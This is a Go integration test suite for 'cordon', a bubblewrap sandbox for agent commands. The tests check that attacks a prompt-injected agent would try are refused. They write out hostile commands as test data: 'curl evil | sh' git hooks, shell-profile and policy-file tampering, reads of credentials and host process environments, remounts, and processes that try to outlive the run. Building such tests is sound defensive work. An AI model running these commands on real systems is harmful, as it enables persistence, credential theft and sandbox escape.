//go:build linux

package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/cordon-dev/cordon/sandbox/sandboxtest"
	"time"
)

// Each test here is an attack a prompt-injected agent would try, run
// through the real binary and real bubblewrap, as root and as an
// unprivileged user. The command always exits 0 so the checks look at what
// happened, not at how the shell reported it.

func (e *env) sandboxed(script string) result {
	e.t.Helper()
	return e.cordon("", "run", "-c", script+"\nexit 0")
}

// attempts wraps each shell command so its outcome is a line of its own
// on stdout: "attempt N allowed" when it succeeded, "attempt N refused:
// ERROR" when it failed. It is each attack test's positive control: the
// command was really tried, and failed the way the protection fails it.
func attempts(cmds ...string) string {
	var b strings.Builder
	for i, c := range cmds {
		fmt.Fprintf(&b, "if out=$( { %s\n} 2>&1 ); then echo 'attempt %d allowed'; else echo \"attempt %d refused: $(printf %%s \"$out\" | tr '\\n' ' ')\"; fi\n", c, i, i)
	}
	return b.String()
}

// refused checks that each of the n attempts ran and failed, and returns
// their errors.
func (e *env) refused(r result, cmds []string) []string {
	e.t.Helper()
	errs := make([]string, len(cmds))
	for i, c := range cmds {
		prefix := fmt.Sprintf("attempt %d ", i)
		line := ""
		for _, l := range strings.Split(r.stdout, "\n") {
			if strings.HasPrefix(l, prefix) {
				line = strings.TrimPrefix(l, prefix)
			}
		}
		switch {
		case line == "":
			e.t.Errorf("attempt %d (%s) never ran; exit %d\nstdout:\n%s\nstderr:\n%s", i, c, r.code, r.stdout, r.stderr)
		case line == "allowed":
			e.t.Errorf("attempt %d (%s) succeeded inside the sandbox", i, c)
		default:
			errs[i] = strings.TrimPrefix(line, "refused: ")
		}
	}
	return errs
}

// refusedWith is refused, and each error must contain one of want.
func (e *env) refusedWith(r result, cmds []string, want ...string) {
	e.t.Helper()
	for i, msg := range e.refused(r, cmds) {
		if msg == "" && strings.Contains(r.stdout, fmt.Sprintf("attempt %d refused", i)) {
			msg = "(no message)"
		}
		ok := false
		for _, w := range want {
			ok = ok || strings.Contains(msg, w)
		}
		if !ok && msg != "" {
			e.t.Errorf("attempt %d (%s) failed with %q, want one of %q", i, cmds[i], msg, want)
		}
	}
}

// mustNotExist checks that none of paths exists on the host, and removes
// any that does: a marker an attack left in /etc must not fail the next
// run too (the mutation gate makes attacks succeed on purpose).
func (e *env) mustNotExist(paths ...string) {
	e.t.Helper()
	for _, p := range paths {
		if _, err := os.Lstat(p); err == nil {
			e.t.Errorf("%s exists on the host", p)
			os.RemoveAll(p)
		}
	}
}

func (e *env) mustHold(path, content string) {
	e.t.Helper()
	b, err := os.ReadFile(path)
	if err != nil || string(b) != content {
		e.t.Errorf("%s holds %q (%v), want %q", path, b, err, content)
	}
}

// noPlaceholders checks invariant 7: the workspace holds exactly what it
// held before, plus what the command made.
func (e *env) noPlaceholders(allowed ...string) {
	e.t.Helper()
	ok := map[string]bool{".sandbox.toml": true}
	for _, a := range allowed {
		ok[a] = true
	}
	ents, _ := os.ReadDir(e.ws)
	for _, ent := range ents {
		if !ok[ent.Name()] {
			e.t.Errorf("left behind in the workspace: %s", ent.Name())
		}
	}
}

func TestAttackWriteOutside(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		target := filepath.Join(e.home, "target")
		os.WriteFile(target, []byte("orig"), 0o644)
		e.chown()
		// An existing file anyone may write on the host, held by nothing
		// but the read-only root inside: a new name outside is also the
		// guard's to refuse, an open of an existing file without O_CREAT
		// is the mounts' and Landlock's alone. In /var/tmp, which the
		// mutation gate keeps the host's (/etc is an overlay there).
		varTmp := fmt.Sprintf("/var/tmp/cordon-pwned-%d-%s", os.Getpid(), filepath.Base(e.home))
		if err := os.WriteFile(varTmp, []byte("orig"), 0o666); err != nil {
			t.Fatal(err)
		}
		os.Chmod(varTmp, 0o666)
		t.Cleanup(func() { os.Remove(varTmp) })
		r := e.sandboxed(`echo pwned > "$HOME/outside"
ln -s "$HOME/target" link && echo pwned > link
echo pwned > /etc/cordon-pwned
printf pwned | dd of=` + varTmp + ` conv=notrunc,nocreat 2>/dev/null; echo "existing-outside=$?"
cp /bin/sh "$HOME/.local-sh"`)
		e.mustNotExist(filepath.Join(e.home, "outside"), "/etc/cordon-pwned", filepath.Join(e.home, ".local-sh"))
		e.mustHold(target, "orig")
		e.mustHold(varTmp, "orig")
		if !strings.Contains(r.stdout, "existing-outside=") || strings.Contains(r.stdout, "existing-outside=0") {
			t.Errorf("the write to an existing file outside did not run, or worked:\n%s", r.stdout)
		}
		if !writeRefused(r.stderr) {
			t.Errorf("no EROFS reported: %s", r.stderr)
		}
		for _, want := range []string{"cordon: blocked write " + filepath.Join(e.home, "outside") + " (default)",
			"cordon: blocked write /etc/cordon-pwned (default)", "cordon: blocked write " + target + " (default)"} {
			if !reported(r.stderr, want) {
				t.Errorf("no %q in:\n%s", want, r.stderr)
			}
		}
		e.noPlaceholders("link")
	})
}

// policyAttacks are what a command tries against a policy file F.
func policyAttacks(f string) []string {
	return []string{
		`echo '[network]' > ` + f,
		`echo 'allow = ["evil.example"]' >> ` + f,
		`printf 'x' > new && mv new ` + f,
		`rm -f ` + f,
		`chmod 666 ` + f,
		`ln ` + f + ` hard && echo evil >> hard`,
		`truncate -s 0 ` + f,
	}
}

// TestAttackPolicyFile: the workspace's policy, a --policy file and the
// user defaults (with the user's config directory writable) cannot be
// changed from inside.
func TestAttackPolicyFile(t *testing.T) {
	const policy = "[network]\ndeny = [\"evil.example\"]\n"
	check := func(t *testing.T, e *env, file string, r result, cmds []string) {
		t.Helper()
		e.refusedWith(r, cmds, "Read-only file system", "Operation not permitted", "Permission denied",
			"Device or resource busy", "Invalid cross-device link")
		e.mustHold(file, policy)
		fi, _ := os.Stat(file)
		if fi == nil || fi.Mode().Perm() != 0o644 {
			t.Errorf("policy mode changed: %v", fi)
		}
		e.mustNotExist(filepath.Join(e.ws, "hard"))
	}
	asBoth(t, func(t *testing.T, e *env) {
		file := e.write(".sandbox.toml", policy)
		// The workspace by its path: mv refuses a bare "." itself once the
		// kernel said no, and the private /tmp makes ../ writable here.
		cmds := append(policyAttacks(".sandbox.toml"), `mv "$PWD" ../moved`)
		check(t, e, file, e.sandboxed(attempts(cmds...)), cmds)
	})
	t.Run("flag", func(t *testing.T) {
		asBoth(t, func(t *testing.T, e *env) {
			file := e.write("cfg/pol.toml", policy)
			cmds := policyAttacks("cfg/pol.toml")
			check(t, e, file, e.cordon("", "run", "--policy", "cfg/pol.toml", "-c", attempts(cmds...)+"exit 0"), cmds)
		})
	})
	t.Run("defaults", func(t *testing.T) {
		asBoth(t, func(t *testing.T, e *env) {
			// The user keeps their config in the workspace: writable, but
			// cordon's defaults inside it are not.
			e.extra = append(e.extra, "XDG_CONFIG_HOME="+filepath.Join(e.ws, "config"))
			file := e.write("config/cordon/sandbox.toml", policy)
			cmds := policyAttacks("config/cordon/sandbox.toml")
			// cordon's config dir is in the credential set: its mask shows
			// no names, so rm -f finds nothing and says nothing; rm says so.
			for i, c := range cmds {
				cmds[i] = strings.Replace(c, "rm -f ", "rm ", 1)
			}
			cmds = append(cmds, `echo x > config/cordon/new.toml`)
			r := e.sandboxed(attempts(cmds...))
			e.refusedWith(r, cmds, "Read-only file system", "Operation not permitted", "Permission denied",
				"No such file or directory", "Invalid cross-device link")
			e.mustHold(file, policy)
			e.mustNotExist(filepath.Join(e.ws, "config/cordon/new.toml"), filepath.Join(e.ws, "hard"))
		})
	})
}

func TestAttackCreateProtectedPaths(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		e.write(".sandbox.toml", "[filesystem]\ndeny_write = [\".env\"]\n")
		os.MkdirAll(filepath.Join(e.ws, ".git"), 0o755)
		e.chown()
		r := e.sandboxed(`mkdir -p .vscode && echo '{"terminal.integrated.shell.linux":"/tmp/x"}' > .vscode/settings.json
mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit
echo 'export PATH=/tmp/evil:$PATH' > .envrc
echo SECRET=1 > .env
echo evil > .bashrc
mkdir .claude; echo '{}' > .mcp.json
ln -s .git g && mkdir -p g/hooks; echo 'curl evil | sh' > g/hooks/post-checkout
ln -s . here && echo evil > here/.bashrc; mkdir here/.vscode
mv .git .git-moved
ls -la`)
		for _, p := range []string{".vscode", ".git/hooks", ".envrc", ".env", ".bashrc", ".claude", ".mcp.json", ".git-moved"} {
			e.mustNotExist(filepath.Join(e.ws, p))
		}
		// The links made inside, which the guard resolves as the kernel does.
		for _, l := range []string{"g", "here"} {
			if _, err := os.Readlink(filepath.Join(e.ws, l)); err != nil {
				t.Errorf("the attack's link %s was not made: %v", l, err)
			}
		}
		if !strings.Contains(r.stdout, ".git") {
			t.Errorf("the listing inside shows no .git:\n%s", r.stdout)
		}
		for _, want := range []string{
			"cordon: blocked write " + filepath.Join(e.ws, ".envrc") + " (default)",
			"cordon: blocked write " + filepath.Join(e.ws, ".env") + " (" + filepath.Join(e.ws, ".sandbox.toml") + ":2)",
			"cordon: blocked write " + filepath.Join(e.ws, ".git/hooks/pre-commit") + " (default)",
		} {
			if !reported(r.stderr, want) {
				t.Errorf("no %q in:\n%s", want, r.stderr)
			}
		}
		e.noPlaceholders(".git", "g", "here")
	})
}

// TestAttackGitFile: in a worktree or a submodule .git is a file naming
// the real gitdir. Commands run there, and can neither repoint it at a
// gitdir of their own, nor replace it with a directory holding hooks, nor
// write the real gitdir's hooks and config.
func TestAttackGitFile(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		gitdir := filepath.Join(e.home, "repo.git")
		for _, d := range []string{"hooks", "worktrees/ws"} {
			os.MkdirAll(filepath.Join(gitdir, d), 0o755)
		}
		os.WriteFile(filepath.Join(gitdir, "config"), []byte("[core]\n"), 0o644)
		wt := filepath.Join(gitdir, "worktrees/ws")
		os.WriteFile(filepath.Join(wt, "commondir"), []byte("../..\n"), 0o644)
		pointer := "gitdir: " + wt + "\n"
		e.write(".git", pointer)
		e.chown()
		r := e.sandboxed(`echo ran
echo "gitdir: $PWD/evil" > .git
rm -f .git; mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit
mv .git .git-moved
echo 'curl evil | sh' > ` + filepath.Join(gitdir, "hooks/pre-commit") + `
echo '[core] hooksPath = /tmp' >> ` + filepath.Join(gitdir, "config"))
		if !strings.Contains(r.stdout, "ran") {
			t.Fatalf("the command did not run in a worktree: exit %d\n%s", r.code, r.stderr)
		}
		e.mustHold(filepath.Join(e.ws, ".git"), pointer)
		e.mustHold(filepath.Join(gitdir, "config"), "[core]\n")
		e.mustNotExist(filepath.Join(gitdir, "hooks/pre-commit"), filepath.Join(e.ws, ".git-moved"))
		e.noPlaceholders(".git")
	})
}

// TestAttackDenyWriteNewNames: deny_write holds for names that do not
// exist yet, globs included, whatever call makes the name: redirection,
// touch, mkdir, cp, mv, hard and symbolic links, a dangling symlink
// written through, python's os.open, openat2, and a second thread
// flipping the path between the check and the call. Writes the rules do
// not cover still work, with the caller's umask.
func TestAttackDenyWriteNewNames(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		e.write(".sandbox.toml", "[filesystem]\ndeny_write = [\"*.pem\", \"secrets/**\", \"config/prod.env\"]\n")
		e.write("ok.txt", "data")
		e.chown()
		r := e.sandboxed(`echo k > key.pem; touch b.pem; mkdir secrets; mkdir -p config && echo x > config/prod.env
ln -s key2.pem lnk; echo x > lnk
cp /etc/hostname c.pem; cp ok.txt d.txt && mv d.txt d.pem; ln ok.txt e.pem; ln -s ok.txt f.pem
python3 -c 'import os; os.open("g.pem", os.O_CREAT | os.O_WRONLY)'
` + probeBin + ` race_create
` + probeBin + ` openat2_create
echo fine > ok2.txt; mkdir -p sub/dir && echo y > sub/dir/file && mv sub/dir/file sub/dir/moved
umask 077; touch private; exec 3>via-fd; echo reopened > /dev/fd/3; umask 022; touch public; exec 4>public-fd
echo 500 > /proc/self/oom_score_adj && echo proc-self-ok`)
		for _, name := range []string{"key.pem", "b.pem", "secrets", "config/prod.env", "key2.pem", "c.pem",
			"d.pem", "e.pem", "f.pem", "g.pem", "race.pem", "o2.pem"} {
			e.mustNotExist(filepath.Join(e.ws, name))
		}
		e.mustHold(filepath.Join(e.ws, "ok2.txt"), "fine\n")
		e.mustHold(filepath.Join(e.ws, "sub/dir/moved"), "y\n")
		e.mustHold(filepath.Join(e.ws, "d.txt"), "data")
		if fi, err := os.Stat(filepath.Join(e.ws, "private")); err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("a file made under umask 077: %v %v", fi, err)
		}
		if fi, err := os.Stat(filepath.Join(e.ws, "public")); err != nil || fi.Mode().Perm() != 0o644 {
			t.Errorf("a file made under umask 022 again: %v %v", fi, err)
		}
		// The shell made via-fd under 077 itself, then public-fd under 022:
		// what the guard learnt of its umask is dropped when it calls umask.
		if fi, err := os.Stat(filepath.Join(e.ws, "via-fd")); err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("a file the shell made under umask 077: %v %v", fi, err)
		}
		if fi, err := os.Stat(filepath.Join(e.ws, "public-fd")); err != nil || fi.Mode().Perm() != 0o644 {
			t.Errorf("a file the shell made under umask 022 again: %v %v", fi, err)
		}
		e.mustHold(filepath.Join(e.ws, "via-fd"), "reopened\n")
		if strings.Count(r.stdout, "refused:") != 2 || !strings.Contains(r.stdout, "proc-self-ok") {
			t.Errorf("stdout:\n%s", r.stdout)
		}
		rule := " (" + filepath.Join(e.ws, ".sandbox.toml") + ":2)"
		for _, name := range []string{"key.pem", "secrets", "config/prod.env", "key2.pem", "e.pem", "race.pem"} {
			if want := "cordon: blocked write " + filepath.Join(e.ws, name) + rule; !reported(r.stderr, want) {
				t.Errorf("no %q in:\n%s", want, r.stderr)
			}
		}
		e.noPlaceholders("ok.txt", "ok2.txt", "d.txt", "lnk", "config", "sub", "private", "public", "via-fd", "public-fd", "safe.txt")
	})
}

func TestConcurrentRunsLeaveNothing(t *testing.T) {
	e := newEnv(t)
	done := make(chan result, 4)
	for i := 0; i < 4; i++ {
		go func(i int) {
			n := strconv.Itoa(i)
			done <- e.cordon("", "run", "-c", "sleep 0."+strconv.Itoa(2+i)+"; "+attempts("touch .envrc")+"echo run"+n+" > out"+n)
		}(i)
	}
	for i := 0; i < 4; i++ {
		r := <-done // each cordon has its own deadline
		if r.code != 0 {
			t.Fatalf("run: exit %d %s", r.code, r.stderr)
		}
		e.refused(r, []string{"touch .envrc"})
	}
	for i := 0; i < 4; i++ {
		e.mustHold(filepath.Join(e.ws, "out"+strconv.Itoa(i)), "run"+strconv.Itoa(i)+"\n")
	}
	e.mustNotExist(filepath.Join(e.ws, ".envrc"))
	e.noPlaceholders("out0", "out1", "out2", "out3")
}

func TestAttackDenyRead(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		e.write(".sandbox.toml", "[filesystem]\ndeny_read = [\"secrets\", \"*.key\", \"later.txt\"]\n")
		e.write("secrets/token", "s3cret-dir")
		e.write("id.key", "s3cret-file")
		e.write("ok.txt", "readable")
		os.MkdirAll(filepath.Join(e.home, ".aws"), 0o755)
		os.WriteFile(filepath.Join(e.home, ".aws", "credentials"), []byte("s3cret-aws"), 0o600)
		e.chown()
		cmds := []string{"cat secrets/token", "echo x > secrets/new", "umount secrets", "chmod 755 secrets",
			"ln -s secrets/token l && cat l", "echo x > id.key", "chmod 644 id.key", "chmod 644 \"$HOME/.aws/credentials\"",
			"echo x > later.txt"} // not there yet: made inside, it would be an ordinary file
		// A hidden file or directory is its empty, read-only mask: it
		// opens (so that the read is reported) and holds nothing.
		masked := `printf 'masked:%s:%s:%s\n' "$(cat id.key)" "$(cat "$HOME/.aws/credentials")" "$(ls -A secrets)"` + "\n"
		r := e.sandboxed(attempts(cmds...) + masked + "cat ok.txt")
		if strings.Contains(r.stdout, "s3cret") {
			t.Fatalf("a denied file was read: %s", r.stdout)
		}
		e.refusedWith(r, cmds, "Permission denied", "No such file or directory", "Read-only file system",
			"Operation not permitted", "must be superuser")
		if !strings.Contains(r.stdout, "readable") || !strings.Contains(r.stdout, "masked:::\n") {
			t.Errorf("an ordinary file was not readable, or a masked one not empty: %s", r.stdout)
		}
		e.mustNotExist(filepath.Join(e.ws, "secrets", "new"), filepath.Join(e.ws, "later.txt"))
		e.mustHold(filepath.Join(e.ws, "secrets", "token"), "s3cret-dir")
	})
}

// probes are the system calls cmd/cordon/testdata/probe tries; the filter
// refuses each with EPERM.
var probes = []string{"io_uring", "af_unix", "ptrace", "userns", "mount", "keyctl", "bpf", "clone_newuser"}

func TestAttackPrivilege(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		cmds := []string{"mount -o remount,rw /", "touch /usr/cordon-pwned", "unshare -U true", "unshare -m true"}
		r := e.sandboxed(`grep CapEff /proc/self/status
grep NoNewPrivs /proc/self/status
` + attempts(cmds...) + `
for p in ` + strings.Join(probes, " ") + `; do printf 'probe %s ' $p; ` + probeBin + ` $p; done`)
		if !strings.Contains(r.stdout, "CapEff:\t0000000000000000") || !strings.Contains(r.stdout, "NoNewPrivs:\t1") {
			t.Errorf("privileges inside:\n%s", r.stdout)
		}
		e.refusedWith(r, cmds, "Read-only file system", "Operation not permitted", "Permission denied",
			"must be superuser", "No space left on device", "permission denied")
		for _, p := range probes {
			if want := "probe " + p + " refused: operation not permitted\n"; !strings.Contains(r.stdout, want) {
				t.Errorf("want %q in:\n%s", want, r.stdout)
			}
		}
		e.mustNotExist("/usr/cordon-pwned")
	})
}

func TestAttackHostProcesses(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		victim := exec.Command("sleep", "60")
		victim.Env = []string{"VICTIM_SECRET=hunter2"}
		if err := victim.Start(); err != nil {
			t.Fatal(err)
		}
		defer victim.Process.Kill()
		pid := strconv.Itoa(victim.Process.Pid)
		cmds := []string{"kill -9 " + pid, "cat /proc/" + pid + "/environ"}
		r := e.sandboxed(attempts(cmds...) + `ls /proc | grep -c '^[0-9]'`)
		if strings.Contains(r.stdout, "hunter2") {
			t.Fatal("read a host process's environment")
		}
		e.refusedWith(r, cmds, "No such process", "No such file or directory")
		if err := victim.Process.Signal(syscall.Signal(0)); err != nil {
			t.Fatalf("the host process was killed from inside: %v", err)
		}
		if n, _ := strconv.Atoi(strings.TrimSpace(lastLine(r.stdout))); n == 0 || n > 6 {
			t.Errorf("the sandbox sees %d processes; want only its own", n)
		}
	})
}

// TestAttackOutliveTheRun: processes that left the command's process
// group or session, or ignore SIGTERM and SIGHUP, still die when the run
// ends, and when a timeout ends it.
func TestAttackOutliveTheRun(t *testing.T) {
	const escape = `(sh -c 'echo $$ > bg1; exec sleep SECS' &)
nohup sh -c 'echo $$ > bg2; exec sleep SECS' >/dev/null 2>&1 &
setsid sh -c 'echo $$ > bg3; exec sleep SECS' &
setsid sh -c 'trap "" TERM HUP; echo $$ > bg4; sleep SECS; :' &
while ! [ -s bg1 ] || ! [ -s bg2 ] || ! [ -s bg3 ] || ! [ -s bg4 ]; do sleep 0.05; done
for f in bg1 bg2 bg3 bg4; do kill -0 "$(cat $f)" && echo "alive $f"; done
`
	check := func(t *testing.T, r result, secs string) {
		t.Helper()
		for _, f := range []string{"bg1", "bg2", "bg3", "bg4"} {
			if !strings.Contains(r.stdout, "alive "+f+"\n") {
				t.Errorf("background process %s never ran (exit %d):\n%s\n%s", f, r.code, r.stdout, r.stderr)
			}
		}
		deadline := time.Now().Add(5 * time.Second)
		for len(sandboxtest.Procs("sleep", secs)) > 0 {
			if time.Now().After(deadline) {
				t.Fatalf("%d background processes outlived the run", len(sandboxtest.Procs("sleep", secs)))
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	asBoth(t, func(t *testing.T, e *env) {
		secs := sandboxtest.Marker(2)
		r := e.sandboxed(strings.ReplaceAll(escape, "SECS", secs))
		if r.code != 0 {
			t.Fatalf("exit %d: %s", r.code, r.stderr)
		}
		check(t, r, secs)
	})
	t.Run("timeout", func(t *testing.T) {
		asBoth(t, func(t *testing.T, e *env) {
			e.write(".sandbox.toml", "[limits]\ntimeout = \"5s\"\n")
			secs := sandboxtest.Marker(3)
			r := e.cordon("", "run", "-c", strings.ReplaceAll(escape, "SECS", secs)+"sleep "+secs)
			if r.code != 128+int(syscall.SIGKILL) || !strings.Contains(r.stderr, "timed out") {
				t.Errorf("timeout: exit %d, stderr %q", r.code, r.stderr)
			}
			check(t, r, secs)
		})
	})
}

func TestEnvironmentScrubbed(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		// One variable per rule, each matching that rule alone.
		e.extra = []string{"DEPLOY_TOKEN=s3cret", "APP_SECRET=s3cret", "DB_PASSWORD=s3cret", "API_KEY=s3cret",
			"GCP_CREDENTIALS=s3cret", "AWS_ACCESS_KEY_ID=s3cret", "GH_ENTERPRISE_HOST=s3cret",
			"SSH_AUTH_SOCK=/tmp/agent", "EDITOR=vi"}
		r := e.sandboxed(`env; f=$(mktemp) && echo tmp-ok > "$f" && cat "$f" && echo "tmpdir=$TMPDIR"`)
		if strings.Contains(r.stdout, "s3cret") || strings.Contains(r.stdout, "SSH_AUTH_SOCK") {
			t.Fatalf("a secret reached the command:\n%s", r.stdout)
		}
		if !strings.Contains(r.stdout, "EDITOR=vi") || !strings.Contains(r.stdout, "tmp-ok") {
			t.Fatalf("ordinary variables or mktemp broken:\n%s\n%s", r.stdout, r.stderr)
		}
	})
}

func TestLimits(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		limits := "[limits]\ntimeout = \"%s\"\nmemory = \"256MiB\"\nprocesses = 64\n"
		if e.user == nil && os.Geteuid() == 0 {
			// RLIMIT_NPROC exempts root: the run must be refused, not run unlimited.
			e.write(".sandbox.toml", "[limits]\nprocesses = 64\n")
			marker := filepath.Join(e.ws, "ran")
			if r := e.cordon("", "run", "--", "touch", marker); r.code != exitSetup || !strings.Contains(r.stderr, "processes") {
				t.Errorf("processes limit as root: exit %d %q", r.code, r.stderr)
			}
			e.mustNotExist(marker)
			limits = "[limits]\ntimeout = \"%s\"\nmemory = \"256MiB\"\n"
		}
		e.write(".sandbox.toml", fmt.Sprintf(limits, "1s"))
		r := e.cordon("", "run", "--", "sleep", "30")
		if r.code != 128+int(syscall.SIGKILL) || !strings.Contains(r.stderr, "timed out") {
			t.Errorf("timeout: exit %d, stderr %q", r.code, r.stderr)
		}
		// The memory check gets time of its own: two Python start-ups (a
		// pyenv shim as root here) can outlast the 1s above on a busy machine.
		e.write(".sandbox.toml", fmt.Sprintf(limits, "60s"))
		r = e.sandboxed(`python3 -c 'b = bytearray(64 << 20); print("SMALL")'
python3 -c 'b = bytearray(1 << 30); print("ALLOCATED")'`)
		if strings.Contains(r.stdout, "ALLOCATED") {
			t.Errorf("allocated 1 GiB under a 256 MiB limit")
		}
		if !strings.Contains(r.stdout, "SMALL") || !strings.Contains(r.stderr, "MemoryError") {
			t.Errorf("want 64 MiB allocated and 1 GiB refused with MemoryError:\n%s\n%s", r.stdout, r.stderr)
		}
		if e.user == nil {
			return
		}
		r = e.sandboxed(`for i in $(seq 100); do sleep 2 & done; wait; echo done`)
		if !strings.Contains(r.stderr+r.stdout, "fork") && !strings.Contains(r.stderr, "Resource temporarily unavailable") {
			t.Logf("stderr: %s", r.stderr)
			t.Errorf("100 processes started under a limit of 64")
		}
	})
}

func TestNoDirectNetwork(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		cmds := []string{`curl -sS -m 3 --noproxy '*' http://1.1.1.1/`, `curl -sS -m 3 --noproxy '*' http://example.com/`,
			`python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("1.1.1.1", 53))'`}
		r := e.sandboxed(attempts(cmds...) + `echo "routes:$(ip route 2>/dev/null | grep -c default)"`)
		e.refusedWith(r, cmds, "Network is unreachable", "Could not resolve host", "Couldn't connect")
		if !strings.Contains(r.stdout, "routes:0\n") {
			t.Errorf("a default route inside, or ip never ran:\n%s", r.stdout)
		}
	})
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}

// DESIGN's protected names, written out here rather than taken from
// workspace.ProtectedNames: a name dropped from that list must fail an
// attack, not only a golden file.
var (
	protectedFiles = []string{".sandbox.toml", ".gitmodules", ".nvim.lua", ".nvimrc", ".exrc", ".envrc", ".mcp.json",
		".bashrc", ".bash_profile", ".profile", ".zshrc", ".zprofile", ".gitconfig", ".ripgreprc"}
	protectedDirs = []string{".vscode", ".idea", ".claude"}
)

// refusals are the errors a write to a protected path may fail with:
// a read-only mount, the guard's refusal, or a placeholder in the way.
var refusals = []string{"Read-only file system", "Permission denied", "Operation not permitted", "File exists", "Not a directory",
	"Device or resource busy"}

// TestAttackEveryProtectedName: each protected name can be neither
// created at the workspace root nor written where it exists deeper down.
func TestAttackEveryProtectedName(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		os.MkdirAll(filepath.Join(e.ws, ".git"), 0o755)
		var cmds, deep []string
		for _, f := range protectedFiles {
			e.write("sub/"+f, "orig")
			deep = append(deep, "sub/"+f)
			cmds = append(cmds, "echo evil > "+f, "echo evil >> sub/"+f)
		}
		for _, d := range protectedDirs {
			e.write("sub/"+d+"/settings.json", "orig")
			deep = append(deep, "sub/"+d+"/settings.json")
			cmds = append(cmds, "mkdir "+d+" && echo evil > "+d+"/settings.json", "echo evil > sub/"+d+"/settings.json",
				"echo evil > sub/"+d+"/new.json")
		}
		e.write("sub/.git/hooks/pre-commit", "orig")
		e.write("sub/.git/config", "orig")
		deep = append(deep, "sub/.git/hooks/pre-commit", "sub/.git/config")
		// mknod (mkfifo) makes a name too: the guard must see it.
		cmds = append(cmds, "mkfifo .exrc", "mkdir .git/hooks && echo evil > .git/hooks/pre-commit", "echo evil > .git/config",
			"echo evil > sub/.git/hooks/pre-commit", "echo evil > sub/.git/hooks/post-checkout", "echo evil >> sub/.git/config")
		e.chown()
		r := e.sandboxed(attempts(cmds...))
		e.refusedWith(r, cmds, refusals...)
		for _, p := range deep {
			e.mustHold(filepath.Join(e.ws, p), "orig")
		}
		for _, n := range append(append([]string{}, protectedFiles...), protectedDirs...) {
			e.mustNotExist(filepath.Join(e.ws, n))
		}
		for _, d := range protectedDirs {
			e.mustNotExist(filepath.Join(e.ws, "sub", d, "new.json"))
		}
		e.mustNotExist(filepath.Join(e.ws, ".git/hooks"), filepath.Join(e.ws, ".git/config"), filepath.Join(e.ws, "sub/.git/hooks/post-checkout"))
	})
}

// TestAttackCordonDirs: cordon's config and state directories (the user
// defaults, the trust store, the audit log) can be neither written nor
// created from inside, even where the user keeps them in a writable place.
func TestAttackCordonDirs(t *testing.T) {
	cmds := []string{
		`mkdir -p xdg-config/cordon && echo 'allow_write = ["/"]' > xdg-config/cordon/sandbox.toml`,
		`echo x > xdg-config/cordon/other.toml`,
		`mkdir -p xdg-state/cordon && echo '{}' > xdg-state/cordon/trust.json`,
		`echo x > xdg-state/cordon/audit.log`,
		`rm -r xdg-config/cordon`, `rm -r xdg-state/cordon`,
	}
	for _, name := range []string{"missing", "no-parent", "existing"} {
		existing := name == "existing"
		t.Run(name, func(t *testing.T) {
			asBoth(t, func(t *testing.T, e *env) {
				e.extra = append(e.extra, "XDG_CONFIG_HOME="+filepath.Join(e.ws, "xdg-config"),
					"XDG_STATE_HOME="+filepath.Join(e.ws, "xdg-state"))
				if existing {
					e.write("xdg-config/cordon/sandbox.toml", "# defaults\n")
					e.write("xdg-state/cordon/trust.json", "{}")
				} else if name == "missing" {
					e.write("xdg-config/.keep", "")
					e.write("xdg-state/.keep", "")
				}
				r := e.sandboxed(attempts(cmds...))
				e.refusedWith(r, cmds, append(refusals, "No such file or directory", "Directory nonexistent")...)
				if existing {
					e.mustHold(filepath.Join(e.ws, "xdg-config/cordon/sandbox.toml"), "# defaults\n")
				} else if b, err := os.ReadFile(filepath.Join(e.ws, "xdg-config/cordon/sandbox.toml")); err == nil {
					t.Errorf("user defaults created from inside: %q", b)
				}
				e.mustNotExist(filepath.Join(e.ws, "xdg-config/cordon/other.toml"))
				if b, _ := os.ReadFile(filepath.Join(e.ws, "xdg-state/cordon/trust.json")); strings.Contains(string(b), "{}\n") {
					t.Errorf("trust store written from inside: %q", b)
				}
			})
		})
	}
}

// TestAttackTIOCSTI: a command cannot push keystrokes into the terminal
// cordon was started from (the kernel here still allows TIOCSTI on one's
// controlling terminal: legacy_tiocsti=1).
func TestAttackTIOCSTI(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		master, slave := openPTY(t)
		defer master.Close()
		if e.user != nil {
			os.Chown(slave.Name(), e.user.UID, e.user.GID)
		}
		cmd := exec.Command(cordonBin, "run", "--", probeBin, "tiocsti")
		cmd.Dir, cmd.Env = e.ws, e.environ()
		var out, errb strings.Builder
		cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, &out, &errb
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
		if e.user != nil {
			cmd.SysProcAttr.Credential = e.user.Credential()
		}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		slave.Close()
		echoed := make(chan string, 1)
		go func() {
			var b []byte
			buf := make([]byte, 256)
			for {
				n, err := master.Read(buf)
				b = append(b, buf[:n]...)
				if err != nil {
					echoed <- string(b)
					return
				}
			}
		}()
		t.Cleanup(func() { cmd.Process.Kill() })
		var err error
		sandboxtest.Within(t, runDeadline, "the end of cordon run on a terminal", func() { err = cmd.Wait() })
		// The terminal echoes what reaches its input queue; give it a moment.
		time.Sleep(100 * time.Millisecond)
		master.SetReadDeadline(time.Now())
		var typed string
		select {
		case typed = <-echoed:
		case <-time.After(5 * time.Second):
		}
		if want := "refused: operation not permitted\n"; out.String() != want {
